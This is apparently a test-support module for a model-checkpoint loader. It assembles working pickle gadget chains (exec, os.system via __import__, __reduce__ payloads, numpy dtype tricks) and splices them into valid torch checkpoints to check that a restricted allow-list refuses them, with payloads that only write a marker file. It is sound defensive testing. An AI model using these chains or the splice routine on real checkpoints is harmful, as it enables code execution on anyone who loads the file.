"""Crafted checkpoints for the loader tests: gadget chains as pickle opcodes inside
valid torch zip checkpoints (valid CRC-32s), and byte-level corruption.

Every code-executing payload, if it ever runs, creates ``marker`` (a file path);
the tests assert that it never appears. The chains were written against the
allow-list mmpad used to have (real ``getattr``, ``HistoryBuffer``, numpy
``_reconstruct`` / ``scalar`` / ``dtype`` / ``ndarray``): under that list the ones
marked ``executes_before`` do run their payload (see ``OLD_ALLOW_LIST``).
"""
import os
import struct
import zipfile
from typing import Callable, Dict, NamedTuple

import numpy as np
import torch

PROTO2 = b'\x80\x02'
HB = ('mmengine.logging.history_buffer', 'HistoryBuffer')


class Asm:
    """Protocol-2 opcodes torch's weights-only unpickler understands. Memo
    slots start at 10**6 so they never collide with the memo of the pickle a
    payload is spliced in front of."""

    def __init__(self):
        self.slot = 1_000_000

    @staticmethod
    def g(module, name):
        return b'c' + module.encode() + b'\n' + name.encode() + b'\n'

    @staticmethod
    def s(text):
        raw = text.encode()
        return b'X' + struct.pack('<I', len(raw)) + raw

    @staticmethod
    def i(n):
        return b'J' + struct.pack('<i', n)

    @staticmethod
    def tup(*items):
        return b'(' + b''.join(items) + b't'

    def call(self, func, *args):
        return func + self.tup(*args) + b'R'

    def raw_bytes(self, data: bytes):  # protocol 2: _codecs.encode(s, 'latin1')
        return self.call(self.g('_codecs', 'encode'),
                         self.s(data.decode('latin1')), self.s('latin1'))

    def put(self, value):
        """(ops pushing value and memoising it, ops pushing it again)"""
        self.slot += 1
        return (value + b'r' + struct.pack('<I', self.slot),
                b'j' + struct.pack('<I', self.slot))

    @staticmethod
    def dict_(*pairs):
        return b'}(' + b''.join(k + v for k, v in pairs) + b'u'

    def getattr(self, obj, name):
        return self.call(self.g('builtins', 'getattr'), obj, self.s(name))

    def rebuild_call(self, func, new_type, *args):
        """torch._tensor._rebuild_from_type_v2(func, new_type, args, {}): torch's
        own allowed global, which calls func(*args) and returns the result as
        it is when new_type is its type: a call gadget"""
        return (self.g('torch._tensor', '_rebuild_from_type_v2') + b'('
                + func + new_type + self.tup(*args) + b'}t' + b'R')

    def np_dtype(self, spec, state):
        return (self.call(self.g('numpy', 'dtype'), self.s(spec), b'\x89',
                          b'\x88') + self.tup(*state) + b'b')


def _code(marker):
    return f"open({marker!r}, 'w').write('pwned')"


# ------------------------------------------------------------------- chains
def hb_setstate_exec(marker):
    """getattr(getattr, '__self__') is the builtins module, its ``exec`` goes
    into a HistoryBuffer's state; mmengine's ``HistoryBuffer.__setstate__``
    copies it into the instance ``__dict__``, so the next BUILD on the same
    object calls ``exec(state)``."""
    a = Asm()
    builtins = a.getattr(a.getattr(a.g('builtins', 'getattr'), '__self__'),
                         'exec')
    return (a.g(*HB) + b')\x81' + a.dict_((a.s('__setstate__'), builtins))
            + b'b' + a.s(_code(marker)) + b'b')


def rebuild_import_os_system(marker):
    """builtins.__import__('os').system(...) with torch's
    ``_rebuild_from_type_v2`` as the call gadget; no HistoryBuffer."""
    a = Asm()
    builtins, builtins_again = a.put(
        a.getattr(a.g('builtins', 'getattr'), '__self__'))
    os_module = a.rebuild_call(a.getattr(builtins, '__import__'),
                               a.getattr(builtins_again, '__class__'),
                               a.s('os'))
    return a.rebuild_call(a.getattr(os_module, 'system'),
                          a.getattr(a.i(0), '__class__'),
                          a.s(f'touch {marker}'))


def init_builtins_dict_exec(marker):
    """HistoryBuffer.__init__.__builtins__ (the builtins dict) .get('exec'),
    called through the rebuild gadget."""
    a = Asm()
    init = a.getattr(a.g(*HB), '__init__')
    get = a.getattr(a.getattr(init, '__builtins__'), 'get')
    fn_type = a.getattr(a.g('builtins', 'getattr'), '__class__')
    exec_ = a.rebuild_call(get, fn_type, a.s('exec'))
    return a.rebuild_call(exec_, a.getattr(b'N', '__class__'),
                          a.s(_code(marker)))


def admitted_method_globals(marker):
    """Starts with what mmpad admits, getattr(HistoryBuffer, 'mean'), then
    mean.__globals__['__builtins__']['__import__']('os').system(...)"""
    a = Asm()
    mean = a.getattr(a.g(*HB), 'mean')
    builtins = a.rebuild_call(a.getattr(a.getattr(mean, '__globals__'), 'get'),
                              a.getattr(b'}', '__class__'),
                              a.s('__builtins__'))
    fn_type = a.getattr(a.g('builtins', 'getattr'), '__class__')
    import_, import_again = a.put(a.rebuild_call(
        a.getattr(builtins, 'get'), fn_type, a.s('__import__')))
    os_module = a.rebuild_call(
        import_, a.getattr(a.getattr(import_again, '__self__'), '__class__'),
        a.s('os'))
    return a.rebuild_call(a.getattr(os_module, 'system'),
                          a.getattr(a.i(0), '__class__'),
                          a.s(f'touch {marker}'))


def statistics_table_pollution(marker):
    """A HistoryBuffer whose pickled ``statistics_methods`` maps 'mean' to
    HistoryBuffer.max: mmengine's __setstate__ writes it into the class-wide
    table, so every HistoryBuffer in the process then logs the max as 'mean'."""
    a = Asm()
    state = a.dict_(
        (a.s('max_length'), a.i(10)),
        (a.s('statistics_methods'),
         a.dict_((a.s('mean'), a.getattr(a.g(*HB), 'max')))))
    return a.g(*HB) + b')\x81' + state + b'b'


def reconstruct_other_class(marker):
    """numpy's _reconstruct with a class that is not ndarray."""
    a = Asm()
    return a.call(a.g('numpy._core.multiarray', '_reconstruct'), a.g(*HB),
                  a.tup(a.i(0)), a.raw_bytes(b'b'))


def object_dtype_array(marker):
    """An object array: its 'data' is a list of unpickled objects (here a
    HistoryBuffer class and a dict), not raw bytes."""
    a = Asm()
    dtype = a.np_dtype('O8', [a.i(3), a.s('|'), b'N', b'N', b'N', a.i(-1),
                              a.i(-1), a.i(63)])
    array = a.call(a.g('numpy._core.multiarray', '_reconstruct'),
                   a.g('numpy', 'ndarray'), a.tup(a.i(0)), a.raw_bytes(b'b'))
    state = a.tup(a.i(1), a.tup(a.i(2)), dtype, b'\x89',
                  b']' + b'(' + a.g(*HB) + b'}' + b'e')
    return array + state + b'b'


def dtype_with_object_flags(marker):
    """A float64 dtype whose pickled state claims object flags (63): numpy
    would then treat raw array bytes as object pointers."""
    a = Asm()
    return a.np_dtype('f8', [a.i(3), a.s('<'), b'N', b'N', b'N', a.i(-1),
                             a.i(-1), a.i(63)])


class _Reduce:
    """An object whose pickle is ``func(*args)`` (the classic attack)."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def reduce_os_system(marker):
    return _Reduce(os.system, f'touch {marker}')


def reduce_exec(marker):
    return _Reduce(exec, _code(marker))


class Chain(NamedTuple):
    build: Callable
    refused: str  # what the error must name
    executes_before: bool  # ran its payload under the old allow-list
    kind: str = 'ops'  # 'ops': opcodes spliced in; 'object': torch.save'd


CHAINS: Dict[str, Chain] = {
    'hb_setstate_exec': Chain(hb_setstate_exec, 'builtins.getattr', True),
    'rebuild_import_os_system': Chain(rebuild_import_os_system,
                                      'builtins.getattr', True),
    'init_builtins_dict_exec': Chain(init_builtins_dict_exec,
                                     'builtins.getattr', True),
    'admitted_method_globals': Chain(admitted_method_globals,
                                     'builtins.getattr', True),
    'statistics_table_pollution': Chain(
        statistics_table_pollution, 'mmengine.logging.history_buffer.'
        'HistoryBuffer', False),
    'reconstruct_other_class': Chain(reconstruct_other_class, '_reconstruct',
                                     False),
    'object_dtype_array': Chain(object_dtype_array, 'numpy.dtype', False),
    'dtype_with_object_flags': Chain(dtype_with_object_flags, 'numpy.dtype',
                                     False),
    'reduce_os_system': Chain(reduce_os_system, 'posix.system', False,
                              'object'),
    'reduce_exec': Chain(reduce_exec, 'builtins.exec', False, 'object'),
}
#: chains that run code when loaded with weights_only=False / the old list
CODE_CHAINS = [n for n, c in CHAINS.items()
               if c.executes_before or c.kind == 'object']


def old_allow_list():
    """mmpad's allow-list before the restricted stand-ins (the control)."""
    from mmengine.logging.history_buffer import HistoryBuffer
    try:
        from numpy._core.multiarray import _reconstruct, scalar
    except ImportError:  # numpy < 2
        from numpy.core.multiarray import _reconstruct, scalar
    safe = [HistoryBuffer, np.ndarray, np.dtype, _reconstruct, scalar, getattr]
    for name in ('bool_', 'int8', 'int16', 'int32', 'int64', 'uint8', 'uint16',
                 'uint32', 'uint64', 'float16', 'float32', 'float64', 'str_'):
        safe.append(type(np.dtype(getattr(np, name))))
    return safe


# ---------------------------------------------------------------- files
def splice(template: str, payload: bytes, out: str) -> str:
    """``template`` (a torch zip checkpoint) copied to ``out`` with ``payload``
    run before the original pickle: the result is still a valid checkpoint
    (valid CRC-32s), whose loading first runs the payload and then returns the
    original object (STOP returns the top of the stack; the payload's leftovers
    stay below it)."""
    with zipfile.ZipFile(template) as src, \
            zipfile.ZipFile(out, 'w', zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith('/data.pkl'):
                assert data[:2] == PROTO2
                data = PROTO2 + payload + data[2:]
            dst.writestr(info.filename, data)
    return out


def write_chain(name: str, template: str, out: str, marker: str) -> str:
    chain = CHAINS[name]
    if chain.kind == 'object':
        obj = torch.load(template, weights_only=False)
        obj['meta']['payload'] = chain.build(marker)
        torch.save(obj, out)
        return out
    return splice(template, chain.build(marker), out)


def record_span(path: str, suffix: str):
    """(start, end) file offsets of the data of the first record ending with
    ``suffix`` (e.g. '/data.pkl', '/data/0')."""
    with zipfile.ZipFile(path) as zf:
        info = next(i for i in zf.infolist() if i.filename.endswith(suffix))
    with open(path, 'rb') as f:
        f.seek(info.header_offset)
        head = f.read(30)
    start = (info.header_offset + 30 + int.from_bytes(head[26:28], 'little')
             + int.from_bytes(head[28:30], 'little'))
    return start, start + info.compress_size


def flip_bytes(path: str, suffix: str, count: int = 4, at: float = 0.5) -> None:
    """Flip ``count`` bytes inside the record ``suffix``, in place."""
    start, end = record_span(path, suffix)
    pos = start + int((end - start - count) * at)
    with open(path, 'r+b') as f:
        f.seek(pos)
        data = f.read(count)
        f.seek(pos)
        f.write(bytes(b ^ 0xFF for b in data))


# ------------------------------------------------------- a tiny Runner setup
def register_toy():
    """A 4->2 linear model with dropout and a 12-sample data set, registered in
    mmengine's root registries (a real Runner trains it in about a second)."""
    import torch.nn as nn
    from mmengine.model import BaseModel
    from mmengine.registry import DATASETS, MODELS

    @MODELS.register_module(name='CkptSecToyModel', force=True)
    class CkptSecToyModel(BaseModel):
        def __init__(self):
            super().__init__()
            self.linear = nn.Linear(4, 2)
            self.drop = nn.Dropout(0.2)

        def forward(self, inputs, labels=None, mode='tensor'):
            out = self.linear(self.drop(torch.stack(inputs)))
            if mode == 'loss':
                return {'loss': ((out - torch.stack(labels))**2).mean()}
            return out

    @DATASETS.register_module(name='CkptSecToyDataset', force=True)
    class CkptSecToyDataset(torch.utils.data.Dataset):
        metainfo = dict(classes=('a', 'b'))

        def __init__(self, n=12):
            gen = torch.Generator().manual_seed(0)
            self.x = torch.randn(n, 4, generator=gen)
            self.y = torch.randn(n, 2, generator=gen)

        def __len__(self):
            return len(self.x)

        def __getitem__(self, i):
            return dict(inputs=self.x[i], labels=self.y[i])


def toy_cfg(work_dir, max_epochs=4, **extra):
    """The config of a tiny epoch-based run (checkpoint every epoch)."""
    from mmengine.config import Config
    register_toy()
    cfg = dict(
        model=dict(type='CkptSecToyModel'),
        work_dir=str(work_dir),
        train_dataloader=dict(
            dataset=dict(type='CkptSecToyDataset'),
            sampler=dict(type='DefaultSampler', shuffle=True),
            collate_fn=dict(type='pseudo_collate'), batch_size=4,
            num_workers=0),
        optim_wrapper=dict(optimizer=dict(type='AdamW', lr=0.01)),
        train_cfg=dict(by_epoch=True, max_epochs=max_epochs),
        default_hooks=dict(checkpoint=dict(type='CheckpointHook', interval=1),
                           logger=dict(type='LoggerHook', interval=1)),
        randomness=dict(seed=0), default_scope='mmengine',
        env_cfg=dict(dist_cfg=dict(backend='gloo')),
        log_level='WARNING', runner_type='MMPadRunner')
    cfg.update(extra)
    return Config(cfg)


def tiny_pad_backbone(checkpoint: str):
    """A 2-block mmdet PAD ViT whose ``init_cfg`` loads ``checkpoint``
    (``init_weights()`` runs the load)."""
    from mmpad.pad.pad_vit_det import PADViTDet
    return PADViTDet(
        arch=dict(embed_dims=32, num_layers=2, num_heads=2,
                  feedforward_channels=64, global_attn_indexes=[1]),
        img_size=32, window_size=2, out_channels=0, out_indices=[1],
        adapter_cfg=dict(bottleneck=8),
        init_cfg=dict(type='Pretrained', checkpoint=checkpoint))
